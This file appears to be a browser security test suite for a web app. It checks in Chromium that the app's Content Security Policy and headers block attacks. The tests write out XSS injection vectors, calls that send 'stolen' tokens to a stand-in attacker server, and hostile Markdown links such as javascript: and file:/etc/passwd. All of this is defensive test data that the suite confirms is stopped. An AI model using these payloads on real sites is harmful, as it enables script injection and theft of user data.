/**
 * The built page under attack, in real Chromium: what its policy stops, and what never leaves it. A
 * stranger's server counts what reaches it.
 */
import { subscribe, unsubscribe } from "node:diagnostics_channel";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { chooseOwn, ask, signIn, startSite, type Site } from "./harness";

let site: Site;
let stranger: Server;
let evil: string;
let reached: string[];
/** Every request that a server of this process got: the page's host, the deployment, the stand-ins. */
const served: string[] = [];
const onRequest = (message: unknown) => {
  const { request } = message as { request: IncomingMessage };
  served.push(request.url ?? "", request.headers.referer ?? "");
};

beforeAll(async () => {
  subscribe("http.server.request.start", onRequest);
  site = await startSite();
  stranger = createServer((request, response) => {
    // The browser's own wish, for the stranger's page that is opened below.
    if (request.url !== "/favicon.ico") reached.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    const framed = request.url === "/frame" ? `<iframe src="${site.url}"></iframe>` : "";
    response.end(`<!doctype html>${framed}`);
  });
  await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
});
beforeEach(() => {
  reached = [];
});
afterEach(() => {
  site.providers.control.clearScripts();
  expect(site.errors.splice(0)).toEqual([]);
});
afterAll(async () => {
  unsubscribe("http.server.request.start", onRequest);
  await site.stop();
  stranger.closeAllConnections();
  await new Promise((resolve) => stranger.close(resolve));
});

/** What the page's policy has stopped so far, which the test expected. */
async function breaches(page: Page, directive: string): Promise<string[]> {
  await expect
    .poll(() => site.errors.some((error) => error.startsWith(`CSP ${directive}`)))
    .toBe(true);
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
  return site.errors.splice(0);
}

test("host and page both send the policy, for this deployment alone", async () => {
  const response = await fetch(site.url);
  const { host } = new URL(site.deployment.url);
  const policy = response.headers.get("content-security-policy")!;
  expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self';");
  expect(policy).toContain(`connect-src http://${host} ws://${host} ${site.deployment.siteUrl};`);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).not.toMatch(/unsafe|\*|data:/);
  expect(Object.fromEntries(response.headers)).toMatchObject({
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "permissions-policy": expect.stringContaining("camera=()") as string,
  });
  const page = await response.text();
  const meta = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)![1]!;
  expect(`${meta.replaceAll("&#39;", "'")}; frame-ancestors 'none'`).toBe(policy);
  expect(page.indexOf(meta)).toBeLessThan(page.indexOf("<script"));
  const hosted = await (await fetch(`${site.url}/_headers`)).text();
  expect(hosted).toContain(`Content-Security-Policy: ${policy}\n`);
});

test("an injected script does not run, whichever way it is put in", async () => {
  const page = await site.visit();
  const ways = [
    "const s = document.createElement('script'); s.append('window.owned = 1'); document.head.append(s)",
    "const s = document.createElement('script'); s.textContent = 'window.owned = 1'; document.head.append(s)",
    "document.body.innerHTML += '<img src=x onerror=\"window.owned = 1\">'",
    "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.owned = 1\">')",
    "document.body.setAttribute('onclick', 'window.owned = 1'); document.body.click()",
    "document.write('<script>window.owned = 1</' + 'script>')",
    "setTimeout('window.owned = 1')",
    "const a = document.createElement('a'); a.href = 'javascript:window.owned = 1'; document.body.append(a); a.click()",
    "const f = document.createElement('iframe'); f.srcdoc = '<script>top.owned = 1</' + 'script>'; document.body.append(f)",
    `import('${evil}/module.js')`,
    `const s = document.createElement('script'); s.src = '${evil}/script.js'; document.head.append(s)`,
    "const b = URL.createObjectURL(new Blob(['top.owned = 1'])); const s = document.createElement('script'); s.src = b; document.head.append(s)",
  ];
  for (const way of ways) {
    const ran = await page.evaluate(async (code) => {
      try {
        await (0, eval)(`(async () => { ${code} })()`);
      } catch {
        // Trusted Types throw where the policy alone would only not run it.
      }
      await new Promise((resolve) => requestAnimationFrame(resolve));
      return "owned" in window;
    }, way);
    expect([way, ran]).toEqual([way, false]);
  }
  expect(reached).toEqual([]);
  expect((await breaches(page, "script-src")).length).toBeGreaterThanOrEqual(ways.length / 2);
});

test("nothing is sent to a stranger, and nothing of a stranger's is loaded", async () => {
  const page = await site.visit();
  await page.evaluate(async (evil) => {
    const element = (tag: string, attributes: Record<string, string>) => {
      const made = Object.assign(document.createElement(tag), attributes);
      document.body.append(made);
      return made;
    };
    const settled = (work: Promise<unknown>) => work.catch(() => undefined);
    await settled(fetch(`${evil}/fetch?token=stolen`));
    await settled(fetch(`${evil}/no-cors`, { mode: "no-cors", method: "POST", body: "stolen" }));
    navigator.sendBeacon(`${evil}/beacon`, "stolen");
    new Image().src = `${evil}/pixel.png`;
    element("link", { rel: "stylesheet", href: `${evil}/style.css` });
    element("link", { rel: "prefetch", href: `${evil}/prefetch` });
    element("video", { src: `${evil}/video` });
    element("iframe", { src: `${evil}/iframe` });
    const form = element("form", { action: `${evil}/form`, target: "_blank" }) as HTMLFormElement;
    form.submit();
    try {
      new WebSocket(`${evil.replace("http", "ws")}/socket`);
      new EventSource(`${evil}/events`);
    } catch {
      // Some are refused at once, some when they connect.
    }
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }, evil);
  const stopped = await breaches(page, "frame-src");
  for (const directive of [
    "connect-src",
    "img-src",
    "style-src-elem",
    "media-src",

    "form-action",
  ]) {
    expect(stopped.join("\n")).toContain(`CSP ${directive}: ${evil}`);
  }
  expect(reached).toEqual([]);
});

test("the page can't be framed", async () => {
  const page = await site.visit();
  await page.goto(`${evil}/frame`);
  await expect.poll(() => page.frames().length).toBe(2);
  const framed = page.frames()[1]!;
  await expect.poll(() => framed.url()).toMatch(/^chrome-error:/);
});

test("an answer's Markdown loads nothing, runs nothing, and its links take nothing along", async () => {
  const page = await site.visit();
  site.providers.control.script({
    match: "Markdown please",
    text: [
      `![pixel](${evil}/pixel.png)`,
      `![ref][p]`,
      `<img src="${evil}/html.png">`,
      `[good](${evil}/good) <${evil}/auto>`,
      "[js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1)) [tab](java\tscript:alert(1))",
      "[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x) [file](file:/etc/passwd)",
      "[entity](&#106;avascript:alert(1)) [blob](blob:x/y)",
      `[p]: ${evil}/reference.png`,
    ].join("\n\n"),
  });
  await ask(page, "Markdown please");
  await page.getByTestId("answer").waitFor();
  const links = await page
    .getByTestId("answer")
    .locator("a")
    .evaluateAll((all) =>
      all.map((a) => [a.textContent, a.getAttribute("href"), a.getAttribute("rel")]),
    );
  expect(links.filter(([, href]) => href !== null && href !== "")).toEqual([
    ["good", `${evil}/good`, "noopener noreferrer nofollow"],
    [`${evil}/auto`, `${evil}/auto`, "noopener noreferrer nofollow"],
  ]);
  expect(await page.getByTestId("message-list").locator("img, script, iframe").count()).toBe(0);
  expect(reached).toEqual([]);
});

/** Tokens and challenges as this browser stores them. */
const secretsOf = (page: Page) =>
  page.evaluate(() =>
    Object.values(localStorage).flatMap(
      (value: string) => value.match(/[\w-]+\.[\w-]+\.[\w-]+|[\w-]{40,}/g) ?? [],
    ),
  );

test("no token, code or challenge is ever in an address, a title, the history or a referrer", async () => {
  const urls: string[] = [];
  const secrets = new Set<string>();
  const watch = (page: Page) => {
    page.on("request", (request) => urls.push(request.url(), request.headers().referer ?? ""));
    page.on("websocket", (socket) => urls.push(socket.url()));
    page.on("framenavigated", (frame) => urls.push(frame.url()));
    page.on("response", (response) => {
      if (!/\/api\/(action|mutation)/.test(response.url())) return;
      response.text().then(
        (text) =>
          text
            .match(/"(?:challenge|refreshToken|accessToken)":"([^"]+)"/g)
            ?.forEach((m) => secrets.add(m.split('"')[3]!)),
        () => undefined,
      );
    });
  };
  const note = async (page: Page) => {
    for (const secret of await secretsOf(page)) secrets.add(secret);
    const { referrer } = await page.evaluate(() => ({ referrer: document.referrer }));
    urls.push(await page.title(), page.url(), referrer);
  };
  const from = served.length;

  const ann = await site.visit();
  watch(ann);
  await ann.reload();
  await ask(ann, "Where can I park?");
  await ann.getByTestId("answer").waitFor();
  await note(ann);
  await ann.getByRole("button", { name: "Conversations and account" }).click();
  await ann.getByRole("button", { name: "Sign in with e-mail" }).click();
  await signIn(site, ann, "address-bar@example.com");
  await ann.getByTestId("sign-in-dialog").waitFor({ state: "hidden" });
  await note(ann);

  const desk = await site.visit("/desk");
  watch(desk);
  await signIn(site, desk, "owner@computerguys.example");
  await desk.getByTestId("desk-list").waitFor();
  await note(desk);
  await desk.goto(`${site.url}/insights`);
  await desk.getByRole("heading").first().waitFor();
  await note(desk);

  expect(secrets.size).toBeGreaterThanOrEqual(6);
  const seen = [...urls, ...served.slice(from)].join("\n");
  expect(seen).toContain("/api/");
  for (const email of ["address-bar@example.com", "owner@computerguys.example"]) {
    const { text } = site.providers.control.emails(email)[0]!;
    const [code] = /\b\d{6}\b/.exec(text ?? "")!;
    // As a word: ids are mostly digits.
    expect(seen).not.toMatch(new RegExp(`\\b${code}\\b`));
  }
  for (const secret of secrets) expect(seen).not.toContain(secret);
  expect(seen).not.toMatch(/eyJ[\w-]+\.|[?&#](token|code|challenge|refresh|sid)=/i);
  expect(seen).not.toMatch(/address-bar|owner%40|owner@/);
});

test("every page has a way to sign out, which leaves no token in the browser", async () => {
  const ann = await site.visit();
  await ann.getByRole("button", { name: "Conversations and account" }).click();
  await ann.getByRole("button", { name: "Sign in with e-mail" }).click();
  await signIn(site, ann, "signs-out@example.com");
  await ann.getByTestId("sign-in-dialog").waitFor({ state: "hidden" });
  expect(await secretsOf(ann)).not.toEqual([]);
  await ann.getByRole("button", { name: "Conversations and account" }).click();
  await ann.getByRole("button", { name: "Sign out" }).click();
  await expect.poll(() => secretsOf(ann)).toEqual([]);

  const desk = await site.visit("/desk");
  await signIn(site, desk, "dana@computerguys.example");
  await desk.getByTestId("desk-list").waitFor();
  expect(await secretsOf(desk)).not.toEqual([]);
  await chooseOwn(desk, "Sign out");
  await expect.poll(() => secretsOf(desk)).toEqual([]);
});
